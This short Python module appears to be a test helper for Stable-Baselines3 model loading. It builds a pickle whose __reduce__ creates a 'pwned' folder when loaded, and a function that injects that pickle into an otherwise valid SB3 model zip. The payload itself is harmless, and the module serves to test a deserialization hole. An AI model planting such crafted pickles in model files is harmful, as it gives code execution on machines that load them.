"""A pickle that passes for data until it is loaded, and models of SB3's own form that hold it."""

import base64
import json
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any


class Planted:
    """Unpickled, it makes a folder."""

    def __reduce__(self) -> Any:
        return os.mkdir, ("pwned",)


CRAFTED: dict[str, bytes] = {"a folder": pickle.dumps(Planted())}


def tampered(model: Path, target: Path, settings: dict[str, Any]) -> Path:
    """A file of SB3's own form with other settings; a pickle is given as bytes."""
    with zipfile.ZipFile(model) as old, zipfile.ZipFile(target, "w") as new:
        data = json.loads(old.read("data"))
        for name, value in settings.items():
            if isinstance(value, bytes):
                value = {":type:": "?", ":serialized:": base64.b64encode(value).decode()}
            data[name] = value
        for name in old.namelist():
            new.writestr(name, json.dumps(data) if name == "data" else old.read(name))
    return target
